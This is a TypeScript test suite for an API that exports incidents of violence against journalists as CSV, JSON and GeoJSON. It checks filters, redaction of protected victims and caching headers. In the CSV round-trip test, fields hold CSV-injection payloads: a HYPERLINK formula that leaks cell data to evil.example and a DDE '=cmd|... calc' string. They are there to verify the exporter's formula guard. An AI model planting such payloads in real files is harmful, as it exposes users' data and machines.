import { randomUUID } from 'node:crypto';
import { sql } from 'kysely';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { publicIncidentSchema, researchIncidentSchema } from '../src/incidents/incident.schemas.ts';
import { createKey, createOrganisation, incidentBody } from './support/factories.ts';
import { request, useTestApp } from './support/test-app.ts';

/**
 * Exports (GET /v1/incidents/export) and the CSV answers of the list and statistics, over real
 * HTTP. The list is the reference: an export must hold exactly what paging through the list with
 * the same filters returns, in the same shape, so redaction and filters cannot drift apart.
 */

const t = useTestApp();

type Reader = 'public' | 'editor' | 'researcher' | 'otherEditor';
const keyOf = (reader: Reader) => (reader === 'public' ? undefined : t.actors[reader]);

interface Raw {
  status: number;
  headers: Headers;
  bytes: Buffer;
  text: string;
}

/** The response as bytes (fetch's text() would drop the byte-order mark we want to see). */
async function fetchRaw(path: string, key?: string, headers: Record<string, string> = {}): Promise<Raw> {
  const response = await fetch(`${t.app.url}${path}`, { headers: { ...(key ? { authorization: `Bearer ${key}` } : {}), ...headers } });
  const bytes = Buffer.from(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, bytes, text: bytes.toString('utf8') };
}

/** A standard parser, told that records end in CRLF: a bare LF between records would not parse into the right cells. */
function parseCsv(text: string): Array<{ [column: string]: string; id: string }> {
  return parse(text, { columns: true, bom: true, record_delimiter: '\r\n' });
}

async function exportOf(reader: Reader, query: string, format: 'csv' | 'json' | 'geojson') {
  const response = await fetchRaw(`/v1/incidents/export?${query}${query ? '&' : ''}format=${format}`, keyOf(reader));
  return response;
}

/** Ids in every page of the list, following nextCursor. */
async function listIds(key: string | undefined, query: string): Promise<{ status: number; ids: string[]; items: any[] }> {
  const items: any[] = [];
  let cursor: string | null = null;
  do {
    const response = await request(t.app, 'GET', `/v1/incidents?${query}&limit=200${cursor ? `&cursor=${cursor}` : ''}`, { key });
    if (response.status !== 200) return { status: response.status, ids: [], items: [] };
    items.push(...response.body.data);
    cursor = response.body.nextCursor;
  } while (cursor);
  return { status: 200, ids: items.map((item) => item.id), items };
}

async function create(key: string, body: unknown): Promise<{ id: string; version: number }> {
  const response = await request(t.app, 'POST', '/v1/incidents', { key, body });
  expect(response.status, response.text).toBe(201);
  return response.body;
}

async function publish(id: string, key = t.actors.reviewer) {
  const response = await request(t.app, 'POST', `/v1/incidents/${id}/publish`, { key, body: {} });
  expect(response.status, response.text).toBe(200);
}

// ---------------------------------------------------------------- exact CSV values

describe('CSV round trip', () => {
  const token = `Kumquat${randomUUID().slice(0, 6)}`;
  const title = `=HYPERLINK("http://evil.example/?leak="&A1,"${token}, ""click"" here")`;
  const description = 'Line one, with a comma\nLine two "quoted"\r\nالسطر الثالث: صحفي سوري';
  const tricky = () =>
    incidentBody({
      title,
      description,
      internalNotes: '=cmd|" /C calc"!A0',
      date: { precision: 'month', value: '2015-10' },
      location: {
        country: 'TR',
        region: '+Region',
        city: '-Minus City',
        coordinates: { latitude: 36.2, longitude: -12.5, precision: 'approximate' },
      },
      attackTypes: ['killing', 'abduction'],
      motive: 'work_related_confirmed',
      victims: [
        { name: '@Handle Reporter', role: 'journalist', outcome: 'killed', gender: 'male', nationality: 'SY', outlet: 'Outlet, Inc.' },
        { name: 'ناجي الجرف', outcome: 'injured' },
        {
          name: 'Hidden Person',
          role: 'activist',
          outcome: 'threatened',
          protected: true,
          gender: 'female',
          nationality: 'TR',
          outlet: 'Secret Radio',
        },
      ],
      perpetratorClaims: [
        { actorName: 'Islamic State', actorType: 'non_state_armed_group', attribution: 'claimed_by_perpetrator' },
        { actorName: 'Unknown, "masked" men', actorType: 'unknown', attribution: 'alleged_by_victim' },
      ],
      sources: [
        { url: 'https://example.org/a?x=1,2', title: 'Report, part 1', kind: 'media_report', public: true },
        { url: 'https://example.org/private', title: 'Private note', kind: 'witness_statement', public: false },
      ],
    });
  let id: string;

  beforeAll(async () => {
    ({ id } = await create(t.actors.editor, tricky()));
  });

  const common = () => ({
    id,
    title: `'${title}`, // formula guard
    description,
    date_precision: 'month',
    date_start: '2015-10-01',
    date_end: '2015-10-31',
    country: 'TR',
    region: "'+Region",
    city: "'-Minus City",
    latitude: '36.2',
    longitude: '-12.5', // a number: no guard
    coordinate_precision: 'approximate',
    attack_types: 'killing;abduction',
    verification_status: 'unverified',
    motive: 'work_related_confirmed',
    judicial_outcome: '',
    death_type: '',
    victim_count: '3',
    victims_killed: '1',
    victim_roles: 'journalist;;activist',
    victim_outcomes: 'killed;injured;threatened',
    victim_protected: 'false;false;true',
    perpetrators: 'Islamic State (non_state_armed_group, claimed_by_perpetrator);Unknown, "masked" men (unknown, alleged_by_victim)',
    organisation: t.actors.ownOrganisation.name,
  });

  it('writes UTF-8 with a BOM, CRLF records and the exact values for the owner, internal columns included', async () => {
    const response = await exportOf('editor', `q=${token}`, 'csv');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect([...response.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(response.text.endsWith('\r\n')).toBe(true);
    const header = response.text.slice(1, response.text.indexOf('\r\n')).split(',');
    expect(header).toEqual([
      'id',
      'title',
      'description',
      'date_precision',
      'date_start',
      'date_end',
      'country',
      'region',
      'city',
      'latitude',
      'longitude',
      'coordinate_precision',
      'attack_types',
      'verification_status',
      'motive',
      'judicial_outcome',
      'death_type',
      'victim_count',
      'victims_killed',
      'victim_names',
      'victim_roles',
      'victim_outcomes',
      'victim_genders',
      'victim_nationalities',
      'victim_outlets',
      'victim_protected',
      'perpetrators',
      'source_titles',
      'source_urls',
      'source_kinds',
      'source_public',
      'organisation',
      'published_at',
      'updated_at',
      'internal_notes',
      'visibility',
      'version',
    ]);
    const json = (await request(t.app, 'GET', `/v1/incidents/${id}`, { key: t.actors.editor })).body;
    expect(parseCsv(response.text)).toEqual([
      {
        ...common(),
        victim_names: "'@Handle Reporter;ناجي الجرف;Hidden Person",
        victim_genders: 'male;;female',
        victim_nationalities: 'SY;;TR',
        victim_outlets: 'Outlet, Inc.;;Secret Radio',
        source_titles: 'Report, part 1;Private note',
        source_urls: 'https://example.org/a?x=1,2;https://example.org/private',
        source_kinds: 'media_report;witness_statement',
        source_public: 'true;false',
        published_at: '',
        updated_at: json.updatedAt,
        internal_notes: `'=cmd|" /C calc"!A0`,
        visibility: 'draft',
        version: '1',
      },
    ]);
  });

  it('writes the public view for the public: withheld name, public sources only, no internal columns', async () => {
    await publish(id);
    const response = await exportOf('public', `q=${token}`, 'csv');
    const json = (await request(t.app, 'GET', `/v1/incidents/${id}`)).body;
    expect(parseCsv(response.text)).toEqual([
      {
        ...common(),
        victim_names: "'@Handle Reporter;ناجي الجرف;name withheld",
        victim_genders: 'male;;', // the protected victim's gender and nationality are withheld too
        victim_nationalities: 'SY;;',
        victim_outlets: 'Outlet, Inc.;;',
        source_titles: 'Report, part 1',
        source_urls: 'https://example.org/a?x=1,2',
        source_kinds: 'media_report',
        source_public: 'true',
        published_at: json.publishedAt,
        updated_at: json.updatedAt,
      },
    ]);
  });

  it('writes each incident in JSON exactly as GET by id shows it to the same reader', async () => {
    for (const reader of ['public', 'editor', 'researcher'] as const) {
      const response = await exportOf(reader, `q=${token}`, 'json');
      expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8');
      const body = JSON.parse(response.text);
      const single = (await request(t.app, 'GET', `/v1/incidents/${id}`, { key: keyOf(reader) })).body;
      // The owner's JSON export also holds each incident's verification history (for moves between instances).
      if (reader === 'editor') expect(body.data[0].verificationHistory).toEqual([]);
      expect(withoutHistory(body.data)).toEqual([single]);
      if (reader !== 'editor') expect(body.data[0]).not.toHaveProperty('verificationHistory');
      expect(body.meta).toEqual({ dataVersion: expect.any(Number), dataAsOf: expect.any(String), exportedAt: expect.any(String) });
    }
  });
});

// ---------------------------------------------------------------- filters

describe('every list filter applies to exports', () => {
  const marker = `Filterset${randomUUID().slice(0, 6)}`;
  let since: string;
  const filters: Array<[string, () => string]> = [];

  beforeAll(async () => {
    const idlib = await create(
      t.actors.editor,
      incidentBody({
        title: `${marker} Ibrahim Abdelkader killed in Urfa`,
        date: { precision: 'day', value: '2015-10-30' },
        location: { country: 'SY', region: 'Idlib', city: 'Idlib', coordinates: { latitude: 35.93, longitude: 36.63, precision: 'city' } },
        attackTypes: ['killing'],
        motive: 'work_related_confirmed',
        judicialOutcome: 'no_investigation',
        victims: [{ name: 'Ibrahim Abdelkader', role: 'journalist', outcome: 'killed', gender: 'male' }],
        perpetratorClaims: [{ actorName: 'Islamic State', actorType: 'non_state_armed_group', attribution: 'claimed_by_perpetrator' }],
      }),
    );
    await publish(idlib.id);
    const gaziantep = await create(
      t.actors.editor,
      incidentBody({
        title: `${marker} Naji Jerf shot in Gaziantep`,
        date: { precision: 'month', value: '2015-12' },
        location: { country: 'TR', region: 'Gaziantep', city: 'Gaziantep' },
        attackTypes: ['killing', 'abduction'],
        motive: 'work_related_unconfirmed',
        judicialOutcome: 'suspects_charged',
        victims: [{ name: 'Naji Jerf', role: 'journalist', outcome: 'killed', gender: 'male' }],
        perpetratorClaims: [{ actorName: 'Islamic State', actorType: 'non_state_armed_group', attribution: 'alleged_by_others' }],
      }),
    );
    await publish(gaziantep.id);
    await new Promise((resolve) => setTimeout(resolve, 20));
    since = new Date().toISOString();
    const draft = await create(
      t.actors.editor,
      incidentBody({
        title: `${marker} activist beaten in Istanbul`,
        date: { precision: 'year', value: '2016' },
        location: { country: 'TR', city: 'Istanbul', coordinates: { latitude: 41.01, longitude: 28.97, precision: 'city' } },
        attackTypes: ['physical_assault'],
        victims: [{ name: 'Protected Woman', role: 'activist', outcome: 'injured', gender: 'female', protected: true }],
      }),
    );
    const verified = await request(t.app, 'POST', `/v1/incidents/${draft.id}/verification`, {
      key: t.actors.reviewer,
      body: { status: 'verified', note: 'Two sources', version: draft.version },
    });
    expect(verified.status).toBe(200);
    const other = await create(
      t.actors.otherEditor,
      incidentBody({
        title: `${marker} fixer threatened in Sanliurfa`,
        date: { precision: 'range', from: '2016-03-01', to: '2016-03-20' },
        location: { country: 'TR', city: 'Şanlıurfa', coordinates: { latitude: 37.16, longitude: 38.79, precision: 'city' } },
        attackTypes: ['threat_harassment'],
        motive: 'unrelated',
        victims: [{ name: 'Fixer Woman', role: 'media_worker', outcome: 'threatened', gender: 'female' }],
        perpetratorClaims: [{ actorName: 'Provincial police', actorType: 'police', attribution: 'alleged_by_victim' }],
      }),
    );
    await publish(other.id, t.actors.otherReviewer);
  });

  filters.push(
    ['q', () => `q=${marker}`],
    ['q (a name)', () => 'q=naji%20jerf'],
    ['country', () => 'country=SY'],
    ['region', () => 'region=gaziantep'],
    ['city', () => `city=${encodeURIComponent('Istanbul,Şanlıurfa')}`],
    ['attackType', () => 'attackType=abduction,threat_harassment'],
    ['victimRole', () => 'victimRole=media_worker'],
    ['victimOutcome', () => 'victimOutcome=killed'],
    ['victimGender', () => 'victimGender=female'],
    ['actorName', () => 'actorName=islamic'],
    ['actorType', () => 'actorType=police'],
    ['attribution', () => 'attribution=claimed_by_perpetrator'],
    ['verificationStatus', () => 'verificationStatus=verified'],
    ['motive', () => 'motive=unrelated,work_related_unconfirmed'],
    ['judicialOutcome', () => 'judicialOutcome=suspects_charged'],
    ['organisation', () => `organisation=${t.actors.otherOrganisation.id}`],
    ['dateFrom and dateTo', () => 'dateFrom=2016&dateTo=2016-06'],
    ['dateMatch=within', () => 'dateFrom=2015-10&dateTo=2015-11&dateMatch=within'],
    ['bbox', () => 'bbox=36,35,37,36'],
    ['hasProtectedVictims', () => 'hasProtectedVictims=true'],
    ['updatedSince', () => `updatedSince=${encodeURIComponent(since)}`],
    ['several filters together', () => `country=TR&victimOutcome=killed&q=${marker}`],
    ['sort=date', () => `q=${marker}&sort=date`],
  );

  const rows = (['editor', 'public'] as const).flatMap((reader) => filters.map(([name, query]) => ({ reader, name, query })));

  it.each(rows)('$name, for $reader: the export holds exactly the list, in its order, in every format', async ({ reader, query }) => {
    const everything = await listIds(keyOf(reader), '');
    const list = await listIds(keyOf(reader), query());
    const csv = await exportOf(reader, query(), 'csv');
    const json = await exportOf(reader, query(), 'json');
    const geojson = await exportOf(reader, query(), 'geojson');
    if (list.status !== 200) {
      // hasProtectedVictims is refused to the public: the export refuses it the same way.
      for (const response of [csv, json, geojson]) expect(response.status).toBe(list.status);
      return;
    }
    expect(list.ids.length).toBeLessThan(everything.ids.length);
    if (reader === 'editor') expect(list.ids.length).toBeGreaterThan(0);
    expect(parseCsv(csv.text).map((row) => row.id)).toEqual(list.ids);
    expect(withoutHistory(JSON.parse(json.text).data)).toEqual(list.items);
    const located = list.items.filter((item) => item.location.coordinates).map((item) => item.id);
    expect(JSON.parse(geojson.text).features.map((feature: any) => feature.id)).toEqual(located);
  });
});

// ---------------------------------------------------------------- redaction

describe('redaction in exports', () => {
  const SECRETS = [
    'Yasemin Gizlitanik',
    'یاسمین پنهان',
    'Kestrel Nightjar',
    'Bosphorus Underground Dispatch',
    'https://example.org/confidential/9f3c-insider',
    'Insider tip from the prosecutor office',
    'Safe house is at Cihangir 44',
  ];

  beforeAll(async () => {
    for (const visibility of ['published', 'draft']) {
      const { id } = await create(
        t.actors.editor,
        incidentBody({
          internalNotes: 'Safe house is at Cihangir 44; never publish.',
          location: { country: 'TR', city: 'Istanbul', coordinates: { latitude: 41.03, longitude: 28.98, precision: 'exact' } },
          victims: [
            { name: 'Public Person', role: 'journalist', outcome: 'injured' },
            {
              name: SECRETS[0],
              nameOriginal: SECRETS[1],
              aliases: [SECRETS[2]],
              outlet: SECRETS[3],
              role: 'activist',
              outcome: 'threatened',
              protected: true,
            },
          ],
          sources: [
            { url: 'https://example.org/public-report', title: 'Public report', kind: 'media_report', public: true },
            { url: SECRETS[4], title: SECRETS[5], kind: 'witness_statement', public: false },
          ],
        }),
      );
      if (visibility === 'published') await publish(id);
    }
  });

  it('the owner export does hold the confidential values, so the checks below are not vacuous', async () => {
    for (const format of ['csv', 'json', 'geojson'] as const) {
      const { text } = await exportOf('editor', '', format);
      // The CSV has no columns for the original-script name, aliases and outlet.
      const held = format === 'csv' ? [SECRETS[0]!, ...SECRETS.slice(4)] : SECRETS;
      for (const secret of held) expect(text, `${format} lacks "${secret}"`).toContain(secret);
    }
  });

  it.each(['public', 'researcher', 'otherEditor'] as const)('no confidential value is in any export to %s (raw bytes)', async (reader) => {
    for (const format of ['csv', 'json', 'geojson'] as const) {
      const { bytes, text } = await exportOf(reader, '', format);
      expect(text).toContain('name withheld');
      expect(text).toContain('https://example.org/public-report');
      for (const secret of SECRETS) expect(bytes.includes(Buffer.from(secret)), `${format} leaked "${secret}"`).toBe(false);
      if (reader !== 'otherEditor') {
        // (another organisation's editor legitimately gets the column, for its own incidents)
        expect(text).not.toContain('internal_notes');
        expect(text).not.toContain('internalNotes');
      }
    }
  });

  // Shapes are copied through their allow-lists rather than parsed (src/incidents/allow-list.ts):
  // parsing each incident must find nothing to drop and nothing to reject.
  it.each([
    ['public', publicIncidentSchema],
    ['researcher', researchIncidentSchema],
  ] as const)('every incident exported to %s holds exactly what its output schema allows', async (reader, schema) => {
    const { data } = JSON.parse((await exportOf(reader, '', 'json')).text);
    expect(data.some((incident: any) => incident.victims.some((victim: any) => victim.protected))).toBe(true);
    for (const incident of data) expect(schema.parse(incident)).toEqual(incident);
  });
});

// ---------------------------------------------------------------- GeoJSON

describe('GeoJSON', () => {
  it('is a FeatureCollection of the incidents with coordinates, as [longitude, latitude] Points', async () => {
    const list = await listIds(undefined, '');
    const response = await exportOf('public', '', 'geojson');
    expect(response.headers.get('content-type')).toBe('application/geo+json; charset=utf-8');
    const collection = JSON.parse(response.text);
    expect(collection.type).toBe('FeatureCollection');
    const located = list.items.filter((item) => item.location.coordinates);
    expect(located.length).toBeGreaterThan(0);
    expect(located.length).toBeLessThan(list.items.length);
    expect(collection.features).toEqual(
      located.map(({ location: { coordinates, ...location }, ...item }) => ({
        type: 'Feature',
        id: item.id,
        geometry: { type: 'Point', coordinates: [coordinates.longitude, coordinates.latitude] },
        properties: { ...item, location: { ...location, coordinatePrecision: coordinates.precision } },
      })),
    );
  });
});

// ---------------------------------------------------------------- headers, negotiation, 304

describe('headers, format negotiation and conditional requests', () => {
  it('names the file and the data version, and answers 304 to If-None-Match until the data changes', async () => {
    const first = await fetchRaw('/v1/incidents/export?format=csv');
    expect(first.status).toBe(200);
    const version = first.headers.get('x-data-version');
    expect(version).toMatch(/^\d+$/);
    expect(first.headers.get('content-disposition')).toBe(`attachment; filename=dateline-incidents-${version}.csv`);
    const etag = first.headers.get('etag')!;
    expect(etag).toBeTruthy();

    const again = await fetchRaw('/v1/incidents/export?format=csv', undefined, { 'if-none-match': etag });
    expect(again.status).toBe(304);
    expect(again.bytes.length).toBe(0);

    // Another format or another reader is another ETag.
    const json = await fetchRaw('/v1/incidents/export?format=json', undefined, { 'if-none-match': etag });
    expect(json.status).toBe(200);
    const asEditor = await fetchRaw('/v1/incidents/export?format=csv', t.actors.editor, { 'if-none-match': etag });
    expect(asEditor.status).toBe(200);

    await create(t.actors.editor, incidentBody());
    const changed = await fetchRaw('/v1/incidents/export?format=csv', undefined, { 'if-none-match': etag });
    expect(changed.status).toBe(200);
    expect(Number(changed.headers.get('x-data-version'))).toBeGreaterThan(Number(version));
  });

  it('answers HEAD with the headers of the file and no body', async () => {
    const response = await fetch(`${t.app.url}/v1/incidents/export?format=geojson`, { method: 'HEAD' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename=dateline-incidents-\d+\.geojson$/);
    expect(await response.text()).toBe('');
  });

  it.each([
    ['no Accept header', {}, '', 'application/json'],
    ['Accept: text/csv', { accept: 'text/csv' }, '', 'text/csv'],
    ['Accept: application/geo+json', { accept: 'application/geo+json' }, '', 'application/geo+json'],
    ['Accept: */*', { accept: '*/*' }, '', 'application/json'],
    ['an Accept we do not have', { accept: 'text/html' }, '', 'application/json'],
    ['format=json over Accept: text/csv', { accept: 'text/csv' }, 'format=json', 'application/json'],
    ['format=csv over Accept: application/json', { accept: 'application/json' }, 'format=csv', 'text/csv'],
  ])('%s answers %s', async (_name, headers, query, type) => {
    const response = await fetchRaw(`/v1/incidents/export?${query}`, undefined, headers as Record<string, string>);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')?.split(';')[0]).toBe(type);
  });

  it('refuses an unknown format, an unknown parameter and a bad filter with problem+json', async () => {
    for (const query of ['format=xml', 'limit=10', 'country=Turkey', 'sort=relevance']) {
      const response = await request(t.app, 'GET', `/v1/incidents/export?${query}`);
      expect(response.status, query).toBe(400);
      expect(response.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    }
  });
});

// ---------------------------------------------------------------- more than one batch

describe('an export larger than one batch', () => {
  const COUNT = 2500;
  let organisationId: string;
  let editor: string;

  beforeAll(async () => {
    const organisation = await createOrganisation(t.app.db);
    organisationId = organisation.id;
    editor = await createKey(t.app.db, organisationId, 'editor');
    // Drafts of their own organisation, so no other test's reader sees them. Seven dates and one
    // updated_at for all: most rows tie on the sort key, and the batches must still meet exactly.
    await sql`
      insert into incidents (organisation_id, title, description, date_start, date_end, date_precision, country, attack_types, latitude, longitude, coordinate_precision)
      select ${organisationId}::uuid, 'Bulk incident ' || n, repeat('Long description. ', 60),
             date '2020-01-01' + (n % 7), date '2020-01-01' + (n % 7), 'day', 'TR', array['threat_harassment'],
             case when n % 10 = 0 then 39.9 end, case when n % 10 = 0 then 32.8 end, case when n % 10 = 0 then 'city' end
      from generate_series(1, ${COUNT}) as n`.execute(t.app.db);
  });

  const expectEachOnce = (ids: string[]) => {
    expect(ids).toHaveLength(COUNT);
    expect(new Set(ids).size).toBe(COUNT);
  };

  // The updated sorts tie on updated_at within one microsecond-precise statement timestamp.
  it.each(['-date', 'date', '-updated', 'updated'])('has each incident exactly once, sorted by %s', async (sort) => {
    const query = `/v1/incidents/export?organisation=${organisationId}&sort=${sort}`;
    const json = await fetchRaw(`${query}&format=json`, editor);
    expectEachOnce(JSON.parse(json.text).data.map((item: any) => item.id));
    const csv = await fetchRaw(`${query}&format=csv`, editor);
    expectEachOnce(parseCsv(csv.text).map((row) => row.id));
  });

  it('puts the same rows in the same order as paging through the list', async () => {
    const list = await listIds(editor, `organisation=${organisationId}`);
    const json = await fetchRaw(`/v1/incidents/export?organisation=${organisationId}&format=json`, editor);
    expect(JSON.parse(json.text).data.map((item: any) => item.id)).toEqual(list.ids);
    const geojson = await fetchRaw(`/v1/incidents/export?organisation=${organisationId}&format=geojson`, editor);
    expect(JSON.parse(geojson.text).features).toHaveLength(COUNT / 10);
  });

  it('a client that hangs up half-way does not keep the database from other requests', async () => {
    // Rows of 10 kB: some 25 MB, far more than the socket buffers, so the server is mid-export when the client goes.
    await sql`update incidents set description = repeat('Much longer description. ', 400) where organisation_id = ${organisationId}::uuid`.execute(
      t.app.db,
    );
    const controller = new AbortController();
    const response = await fetch(`${t.app.url}/v1/incidents/export?organisation=${organisationId}&format=json`, {
      headers: { authorization: `Bearer ${editor}` },
      signal: controller.signal,
    });
    const reader = response.body!.getReader();
    await reader.read();
    controller.abort();
    await reader.closed.catch(() => undefined);
    const started = Date.now();
    const after = await request(t.app, 'GET', '/v1/incidents?limit=1');
    expect(after.status).toBe(200);
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  // Embedded mode has one connection: a write waits for the export to finish, which proves nothing.
  it.skipIf(!process.env.DATABASE_URL)('is one snapshot: writes made while it streams do not show up in it', async () => {
    // The rows are large (previous test), so the server is still waiting for this slow reader when the writes commit.
    const response = await fetch(`${t.app.url}/v1/incidents/export?organisation=${organisationId}&format=json`, {
      headers: { authorization: `Bearer ${editor}` },
    });
    const version = Number(response.headers.get('x-data-version'));
    await new Promise((resolve) => setTimeout(resolve, 200)); // not reading: the server fills the socket and waits
    await sql`update incidents set title = 'Changed during the export' where organisation_id = ${organisationId}::uuid`.execute(t.app.db);
    await create(editor, incidentBody({ date: { precision: 'day', value: '1999-01-01' } }));
    const body = JSON.parse(await response.text());
    expect(body.meta.dataVersion).toBe(version);
    expect(body.data).toHaveLength(COUNT);
    expect(body.data.filter((item: any) => item.title === 'Changed during the export')).toEqual([]);
  });
});

// ---------------------------------------------------------------- the list page and statistics as CSV

describe('GET /v1/incidents as CSV', () => {
  beforeAll(async () => {
    for (let count = 0; count < 3; count++) await create(t.actors.editor, incidentBody());
  });

  it('pages like the JSON list, with the next page in a Link header', async () => {
    const json = await listIds(t.actors.editor, '');
    const ids: string[] = [];
    let next: string | null = '/v1/incidents?format=csv&limit=2';
    let pages = 0;
    while (next) {
      const response = await fetchRaw(next, t.actors.editor);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
      expect(response.headers.get('x-data-version')).toMatch(/^\d+$/);
      const rows = parseCsv(response.text);
      expect(Object.keys(rows[0] ?? {})).toContain('internal_notes');
      ids.push(...rows.map((row) => row.id));
      next = /<([^>]+)>; rel="next"/.exec(response.headers.get('link') ?? '')?.[1] ?? null;
      pages++;
    }
    expect(pages).toBeGreaterThan(1);
    expect(ids).toEqual(json.ids);
  });

  it('answers CSV to Accept: text/csv, JSON by default, and problems as problem+json', async () => {
    const csv = await fetchRaw('/v1/incidents?limit=3&includeTotal=true', undefined, { accept: 'text/csv' });
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(parseCsv(csv.text)).toHaveLength(3);
    expect(Number(csv.headers.get('x-total-count'))).toBeGreaterThan(3);
    expect(Object.keys(parseCsv(csv.text)[0]!)).not.toContain('internal_notes');
    const json = await request(t.app, 'GET', '/v1/incidents?limit=3&format=json', { headers: { accept: 'text/csv' } });
    expect(json.body.data).toHaveLength(3);
    const bad = await request(t.app, 'GET', '/v1/incidents?format=csv&limit=0');
    expect(bad.status).toBe(400);
    expect(bad.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    const geojson = await request(t.app, 'GET', '/v1/incidents?format=geojson');
    expect(geojson.status).toBe(400);
  });

  it('answers 304 to a CSV page that has not changed', async () => {
    const first = await fetchRaw('/v1/incidents?format=csv&limit=2');
    const again = await fetchRaw('/v1/incidents?format=csv&limit=2', undefined, { 'if-none-match': first.headers.get('etag')! });
    expect(again.status).toBe(304);
  });
});

describe('GET /v1/stats as CSV', () => {
  const cell = (value: unknown) => (value === null || value === undefined ? '' : String(value));

  it.each(['groupBy=country,attackType', 'groupBy=year&dateFrom=2014', 'groupBy=victimRole&country=TR', ''])(
    'holds the same groups as the JSON answer (%s), totals in X-Totals',
    async (query) => {
      const json = (await request(t.app, 'GET', `/v1/stats?${query}`, { key: t.actors.editor })).body;
      const response = await fetchRaw(`/v1/stats?${query}&format=csv`, t.actors.editor);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename=dateline-statistics-\d+\.csv$/);
      const counts = ['incidents', 'victims', 'victimsKilled'];
      const expected = (json.groupBy.length ? json.groups : [json.totals]).map((group: Record<string, unknown>) =>
        // A group by country also names it, as in the JSON.
        Object.fromEntries(
          [...json.groupBy.flatMap((name: string) => (name === 'country' ? [name, 'countryName'] : [name])), ...counts].map((name) => [
            name,
            cell(group[name]),
          ]),
        ),
      );
      expect(json.totals.incidents).toBeGreaterThan(0);
      expect(parseCsv(response.text)).toEqual(expected);
      expect(response.headers.get('x-totals')).toBe(counts.map((name) => `${name}=${json.totals[name]}`).join(', '));
    },
  );

  it('answers CSV to Accept: text/csv and keeps JSON the default', async () => {
    const csv = await fetchRaw('/v1/stats?groupBy=country', undefined, { accept: 'text/csv' });
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    const json = await request(t.app, 'GET', '/v1/stats?groupBy=country');
    expect(json.headers.get('content-type')).toMatch(/^application\/json/);
  });
});

/** JSON export items without the owner's verificationHistory, which the list and GET by id do not show. */
function withoutHistory(items: Array<Record<string, unknown>>) {
  return items.map(({ verificationHistory: _history, ...item }) => item);
}
